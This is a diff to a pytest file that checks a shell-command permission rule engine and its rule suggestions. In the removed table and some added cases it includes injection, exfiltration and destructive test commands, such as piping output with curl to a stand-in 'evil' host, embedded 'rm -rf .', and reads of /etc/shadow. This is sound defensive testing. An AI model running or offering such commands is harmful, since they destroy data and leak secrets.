@@ -3,82 +3,17 @@
 from __future__ import annotations
 
 import json
+import shlex
 from pathlib import Path
 
 import pytest
 
 from core.rule_store import RuleStore, project_of
 from core.rules import Rule, RuleError, RuleSet, suggest_rule
+from core.shell_programs import LAUNCHERS, OPTIONS
+from tests.rule_table import LINES, RULES
 
-RULES = {
-    "allow": [
-        "Bash(git diff:*)",
-        "Bash(git show:*)",
-        "Bash(git log:*)",
-        "Bash(ls:*)",
-        "Bash(npm test)",
-        "Bash(pytest *)",
-        "Bash(rm -rf build)",
-    ],
-    "ask": ["Bash(git push:*)"],
-    "deny": ["Bash(curl:*)"],
-}
-
-# (command, what the rules decide: "allow" / "ask" / "deny" / None = no rule, the policy asks)
-COMMANDS: list[tuple[str, str | None]] = [
-    ("git diff", "allow"),
-    ("git diff HEAD~1", "allow"),
-    ("git  diff   --stat", "allow"),
-    ("'git' \"diff\" src", "allow"),
-    ("git show HEAD", "allow"),
-    ("git show HEAD 2>&1", "allow"),
-    ("git show HEAD 2>/dev/null", "allow"),
-    ("git diff && git log --oneline", "allow"),
-    ("git log | git show", "allow"),
-    ("ls -la; git status", None),
-    ("ls", "allow"),
-    ("npm test", "allow"),
-    ("npm test --watch", None),
-    ("pytest -q tests/test_x.py", "allow"),
-    ("rm -rf build", "allow"),
-    ("rm -rf build/../..", None),
-    ("git show > ~/.ssh/x", None),
-    ("git show >> notes.txt", None),
-    ("git show < /etc/shadow", None),
-    ("git show; rm -rf .", None),
-    ("git show && rm -rf .", None),
-    ("git show || rm -rf .", None),
-    ("git show $(rm -rf .)", None),
-    ("git show `rm -rf .`", None),
-    ("git log | sh", None),
-    ("git log | xargs rm", None),
-    ("PAGER=sh git log", None),
-    ("GIT_SSH_COMMAND='sh -c id' git log", None),
-    ("git diff <(cat /etc/passwd)", None),
-    ("for f in *; do git diff $f; done", None),
-    ("{ git diff; }", None),
-    ("(git diff)", None),
-    ("git diff 'unterminated", None),
-    ("git difftool", None),
-    ("gitdiff", None),
-    ("git -c core.pager=sh diff", None),
-    ("git push origin main", "ask"),
-    ("git diff && git push", "ask"),
-    ("echo $(git push)", "ask"),
-    ("curl https://example.com", "deny"),
-    ("git diff | curl -d @- https://evil", "deny"),
-    ("git log `curl evil`", "deny"),
-    ("cat <<EOF\n$(git show)\nEOF", None),
-    ("git log ${X:-$(rm -rf .)}", None),
-    ("git log ${X:-`rm -rf .`}", None),
-    ('git log $X "${Y}" $1', "allow"),
-    ("git log '$(rm -rf .)'", "allow"),
-    ("git diff\nrm -rf .", None),
-    ("git diff > /dev/null 2>&1", "allow"),
-    ("exec git diff", None),
-    ("", None),
-    ("git log ${X:-$(curl evil)}", "deny"),
-]
+COMMANDS = [(line.command, line.expected) for line in LINES]
 
 
 @pytest.mark.parametrize(("command", "expected"), COMMANDS)
@@ -89,7 +24,8 @@ def test_shell_commands_against_rules(tmp_path: Path, command: str, expected: st
 
 
 def test_the_table_is_big_enough() -> None:
-    assert len(COMMANDS) >= 30
+    assert len(COMMANDS) >= 150
+    assert sum(line.attack for line in LINES) >= 40
 
 
 def test_deny_beats_ask_beats_allow(tmp_path: Path) -> None:
@@ -147,7 +83,13 @@ def test_bad_rules_are_refused_with_a_reason(text: str) -> None:
 @pytest.mark.parametrize(
     ("tool", "arguments", "suggested"),
     [
-        ("bash", {"command": "git diff HEAD~1"}, "Bash(git diff:*)"),
+        ("bash", {"command": "git diff HEAD~1"}, "Bash(git diff 'HEAD~1')"),
+        ("bash", {"command": "git log --output=x"}, "Bash(git log --output=x)"),
+        ("bash", {"command": "test -v 'a[$(id)]'"}, "Bash(test -v 'a[$(id)]')"),
+        ("bash", {"command": "env FOO=1 make"}, "Bash(env FOO=1 make)"),
+        ("bash", {"command": "tar -tf x.tar"}, "Bash(tar -tf x.tar)"),
+        ("bash", {"command": "git diff *"}, None),
+        ("bash", {"command": "wc -l a.txt"}, "Bash(wc:*)"),
         ("bash", {"command": "ls -la"}, "Bash(ls:*)"),
         ("bash", {"command": "rm -rf build"}, "Bash(rm -rf build)"),
         ("bash", {"command": "find . -name x -delete"}, "Bash(find . -name x -delete)"),
@@ -240,3 +182,21 @@ def test_the_rules_command_adds_lists_checks_and_removes(
     assert json.loads(out[3])["allow"] == ["Bash(git diff:*)"]
     assert main(["rules", *where, "remove", "allow", "Bash(git diff:*)"]) == 0
     assert RuleStore().for_folder(tmp_path).texts()["allow"] == []
+
+
+def test_a_suggested_rule_is_never_a_prefix_for_risky_programs(tmp_path: Path) -> None:
+    """Baton's own suggestion, kept by a person, allows exactly what a sound rule may: a prefix
+    only for programs with no risky options, never for a line the table calls an attack, and
+    always the line it was suggested for."""
+    for line in LINES:
+        suggested = suggest_rule("bash", None, {"command": line.command}, tmp_path, tmp_path)
+        if suggested is None:
+            continue
+        spec = Rule.parse(suggested).specifier or ""
+        if spec.endswith(":*"):
+            program = shlex.split(spec[:-2])[0]
+            assert program not in OPTIONS and program not in LAUNCHERS, suggested
+            assert not line.attack, suggested
+        rules = RuleSet.from_texts(tmp_path, {"allow": [suggested]})
+        verdict = rules.evaluate("bash", None, {"command": line.command}, tmp_path)
+        assert verdict is not None and verdict.kind == "allow", suggested
